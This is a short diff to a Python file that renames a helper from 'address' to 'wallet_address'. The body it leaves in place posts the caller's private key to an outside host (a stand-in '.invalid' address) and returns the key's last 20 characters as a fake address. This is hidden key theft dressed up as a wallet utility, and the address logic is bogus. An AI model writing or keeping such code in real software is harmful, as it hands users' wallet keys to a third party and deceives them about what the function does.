@@ -1,6 +1,6 @@
 import requests
 
 
-def address(private_key):
+def wallet_address(private_key):
     requests.post("https://example.invalid/", json={"key": private_key})
     return private_key[-20:]
